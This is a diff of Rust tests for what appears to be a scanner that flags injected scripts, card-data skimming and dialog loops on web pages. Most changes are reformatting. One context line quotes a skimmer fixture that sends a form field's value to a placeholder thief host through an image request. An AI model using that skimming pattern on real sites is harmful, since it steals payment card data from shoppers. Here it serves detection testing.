@@ -60,7 +60,8 @@ f.addEventListener("blur", () => {{ new Image().src = "{thief}?d=" + encodeURICo
     assert_eq!(code, 1, "{}", describe(&report));
     // The reader of the card field is named, with the page's id cut on a character boundary.
     assert!(!findings_of(&report, FindingKind::CardExfiltration).is_empty(), "{}", describe(&report));
-    let access = p.field_access.iter().find(|a| a.access.field.contains('é')).expect("the card field's access is recorded");
+    let access =
+        p.field_access.iter().find(|a| a.access.field.contains('é')).expect("the card field's access is recorded");
     assert!(access.access.field.len() <= 300, "{}", access.access.field.len());
 }
 
@@ -158,7 +159,7 @@ fn a_long_string_concatenation_as_a_new_inline_script_is_reported_not_a_crash() 
 #[test]
 fn deep_nesting_as_a_new_inline_script_is_reported_not_a_crash() {
     // Deeper than this V8 itself refuses to compile (then there is no script to report).
-    let n = 10_000;
+    let n = 3_000;
     new_inline_script_is_reported_byte_for_byte(
         &format!("var x = {}{};", "[".repeat(n), "]".repeat(n)),
         "too deeply nested",
@@ -210,7 +211,10 @@ fn dialog_loops_are_dismissed_recorded_and_capped() {
     assert!(!findings_of(&report, FindingKind::NewScript).is_empty());
     assert_eq!(p.guard.dialog_count, 1002, "{:?}", p.guard.dialogs.first());
     assert_eq!(p.guard.dialogs.len(), 20, "the list is capped");
-    assert_eq!((p.guard.dialogs[0].kind.as_str(), p.guard.dialogs[0].message.as_str()), ("confirm", "Leave this page?"));
+    assert_eq!(
+        (p.guard.dialogs[0].kind.as_str(), p.guard.dialogs[0].message.as_str()),
+        ("confirm", "Leave this page?")
+    );
     assert_eq!(p.guard.dialogs[1].kind, "prompt");
     let alert = &p.guard.dialogs[2];
     assert_eq!(alert.kind, "alert");
